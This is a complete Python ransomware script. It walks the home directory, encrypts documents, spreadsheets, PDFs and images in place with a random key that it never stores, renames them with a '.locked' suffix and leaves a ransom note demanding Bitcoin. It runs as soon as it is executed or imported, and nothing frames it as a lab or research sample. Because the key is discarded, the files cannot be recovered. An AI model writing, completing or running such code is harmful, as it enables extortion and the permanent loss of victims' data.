import os
import sys

from cryptography.fernet import Fernet

TARGET_EXT = {".doc", ".docx", ".xls", ".pdf", ".jpg", ".png", ".txt", ".csv"}
NOTE = """Your files have been encrypted!
Send 0.1 BTC to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT to get the key."""


def targets(root):
    for dirpath, _, names in os.walk(root):
        for name in names:
            if os.path.splitext(name)[1].lower() in TARGET_EXT:
                yield os.path.join(dirpath, name)


def lock(path, cipher):
    with open(path, "rb") as f:
        data = f.read()
    with open(path, "wb") as f:
        f.write(cipher.encrypt(data))
    os.rename(path, path + ".locked")


def main():
    cipher = Fernet(Fernet.generate_key())
    root = sys.argv[1] if len(sys.argv) > 1 else os.path.expanduser("~")
    for p in targets(root):
        try:
            lock(p, cipher)
        except OSError:
            continue
    with open(os.path.join(root, "README_RECOVER.txt"), "w") as f:
        f.write(NOTE)


main()
